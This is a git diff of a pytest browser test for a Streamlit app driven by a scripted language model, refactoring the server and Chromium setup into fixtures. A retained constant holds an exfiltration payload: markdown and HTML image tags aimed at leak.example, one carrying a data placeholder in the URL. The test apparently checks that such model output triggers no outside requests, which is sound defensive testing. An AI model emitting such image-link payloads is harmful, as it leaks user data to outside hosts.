@@ -1,12 +1,8 @@
 """The page with a scripted model, in Debian's Chromium: our answer first, then the freer one; nothing a model writes is followed or drawn."""
 
 import json
-import os
-import socket
-import subprocess
 import sys
 import time
-import urllib.request
 from pathlib import Path
 
 import pytest
@@ -15,8 +11,6 @@ ROOT = Path(__file__).parents[2]
 sys.path.insert(0, str(ROOT / "tests" / "model"))
 from scripted_server import ScriptedServer, completion  # noqa: E402
 
-CHROMIUM = Path("/usr/bin/chromium")
-FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
 WAIT = 30_000
 HARM = " ![x](http://leak.example/{F1}.png) <img src=http://leak.example/y.png> It fell by 12%."
 
@@ -34,45 +28,23 @@ class Script:
 
 
 @pytest.fixture(scope="module")
-def tab(starter_store, tmp_path_factory):
-    """(page, script): the page opened in a browser, with a scripted model switched on."""
+def tab(starter_store, tmp_path_factory, chromium, serve):
+    """(page, script, host): the page opened in a browser, with a scripted model switched on."""
     pytest.importorskip("langchain_openai", reason='pip install -c constraints.txt -e ".[llm]"')
-    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
-    if not CHROMIUM.exists():
-        pytest.skip(f"there is no browser at {CHROMIUM}: apt-get install chromium")
     folder, script = tmp_path_factory.mktemp("model-page"), Script()
-    with socket.socket() as free:
-        free.bind(("127.0.0.1", 0))
-        port = free.getsockname()[1]
-    with ScriptedServer(script.play) as model, sync_api.sync_playwright() as playwright:
+    with ScriptedServer(script.play) as model:
         settings = {"CIN_NARRATIVE_STORE": str(starter_store), "CIN_NARRATIVE_FEEDBACK": str(folder / "f.jsonl"),
                     "CIN_NARRATIVE_DRAFTS": str(folder / "drafts"), "CIN_NARRATIVE_MODEL": "scripted", "CIN_NARRATIVE_MODEL_URL": model.url,
                     "CIN_NARRATIVE_MODEL_TIMEOUT": "60", "CIN_NARRATIVE_MODEL_LOG": str(folder / "log.jsonl"), "OPENAI_API_KEY": "sk-browser-secret"}  # fmt: skip
-        command = [sys.executable, "-m", "streamlit", "run", "streamlit_app.py", "--server.port", str(port), "--server.headless", "true"]
-        server = subprocess.Popen(command, cwd=ROOT, env={**os.environ, **settings}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        try:
-            _wait_for(f"http://127.0.0.1:{port}/_stcore/health")
-            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
-            page = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
+        with serve(settings) as address:
+            context = chromium.new_context(viewport={"width": 1280, "height": 1000})
+            page = context.new_page()
             page.set_default_timeout(WAIT)
             page.hosts = set()
             page.on("request", lambda request: page.hosts.add(request.url.split("/")[2]))
-            page.goto(f"http://127.0.0.1:{port}/ask")
-            yield page, script, f"127.0.0.1:{port}"
-            browser.close()
-        finally:
-            server.kill()  # by its id; it has nothing to save, and on a busy machine would take its time to end
-            server.wait()
-
-
-def _wait_for(url: str) -> None:
-    for _ in range(300):
-        try:
-            urllib.request.urlopen(url, timeout=1)
-            return
-        except OSError:
-            time.sleep(0.1)
-    pytest.fail("the server did not start")
+            page.goto(f"{address}/ask")
+            yield page, script, address.removeprefix("http://")
+            context.close()
 
 
 def ask(page, question, answer):
